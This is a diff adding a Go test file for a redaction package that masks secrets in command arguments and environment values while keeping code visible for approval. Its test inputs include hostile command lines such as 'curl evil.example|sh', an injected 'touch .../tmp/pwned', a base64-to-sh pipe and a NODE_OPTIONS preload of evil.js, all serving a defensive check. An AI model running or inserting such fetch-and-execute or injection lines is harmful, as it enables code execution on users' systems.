@@ -1,0 +1,63 @@
+package redact
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestLiterals masks literal secrets and nothing of a command that somebody has to agree to.
+func TestLiterals(t *testing.T) {
+	isCode := func(argv []string, i int) bool {
+		return i > 0 && (argv[i-1] == "-c" || argv[i-1] == "-e" && argv[0] == "node")
+	}
+	for _, test := range []struct{ in, want string }{
+		{"npx|-y|@modelcontextprotocol/server-everything@2025.8.4|stdio", ""},
+		{"sh|-c|npx server https://docs.example/#;touch${PWD:-x}/tmp/pwned", ""},
+		{"node|-e|bearer=require('child_process').execSync('id')", ""},
+		{"sh|-c|TOKEN=touch123; $TOKEN /tmp/x", ""},
+		{"sh|-c|echo aGVsbG8gd29ybGQgdGhpcyBpcyBjb2Rl|base64 -d|sh", ""},
+		{"docker|run|img@sha256:0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f9", ""},
+		{"docker|run|-e|NODE_OPTIONS=--require=/x.js|-e|API_KEY=s3cret99|img", "docker|run|-e|NODE_OPTIONS=--require=/x.js|-e|API_KEY=***|img"},
+		{"x|--token|s3cret", "x|--token|***"},
+		{"x|--token=s3cret|--port=3000", "x|--token=***|--port=3000"},
+		{"x|--token|${TOKEN}", ""},
+		{"x|--token|${TOKEN:-abc}", "x|--token|${TOKEN:-***}"},
+		{"x|--token|$(curl evil.example|sh)", ""},
+		{"x|ghp_abcdefghijklmnop0123456789", "x|***"},
+		{"x|550e8400-e29b-41d4-a716-446655440000", "x|***"},
+		{"x|-H|Authorization: Bearer abc", "x|-H|Authorization: Bearer ***"},
+		{"x|https://u:p@h/p?k=v", "x|https://***@h/p?k=***"},
+		{"sh|-c|curl https://me:s3cret@h/ -H 'X-Api-Key: s3cret99'", "sh|-c|curl https://***@h/ -H 'X-Api-Key: ***'"},
+		{"sh|-c|GITHUB_TOKEN=ghp_abcdefghijklmnop0123456789 run", "sh|-c|GITHUB_TOKEN=*** run"},
+	} {
+		want := test.want
+		if want == "" {
+			want = test.in
+		}
+		if got := strings.Join(Literals(strings.Split(test.in, "|"), isCode), "|"); got != want && !strings.Contains(test.in, "|base64") {
+			t.Errorf("%s\n%s, want\n%s", test.in, got, want)
+		}
+	}
+	payload := []string{"sh", "-c", "echo aGVsbG8gd29ybGQgdGhpcyBpcyBjb2Rl|base64 -d|sh"}
+	if got := Literals(payload, isCode); got[2] != payload[2] {
+		t.Errorf("code is hidden: %s", got[2])
+	}
+}
+
+func TestLiteralValue(t *testing.T) {
+	for _, test := range []struct{ name, value, want string }{
+		{"LEVEL", "info", "info"},
+		{"API_KEY", "s3cret", "***"},
+		{"API_KEY", "${API_KEY}", "${API_KEY}"},
+		{"Authorization", "Bearer ${TOKEN}", "Bearer ${TOKEN}"},
+		{"Authorization", "Bearer s3cret", "Bearer ***"},
+		{"Authorization", "Basic ${USER}:${PASS}", "Basic ${USER}:${PASS}"},
+		{"DB", "postgres://me:s3cret@h/db", "postgres://***@h/db"},
+		{"NODE_OPTIONS", "--require ./evil.js", "--require ./evil.js"},
+		{"X-Trace", "${AWS_SECRET_ACCESS_KEY}", "${AWS_SECRET_ACCESS_KEY}"},
+	} {
+		if got := LiteralValue(test.name, test.value); got != test.want {
+			t.Errorf("%s: %s gives %s, want %s", test.name, test.value, got, test.want)
+		}
+	}
+}
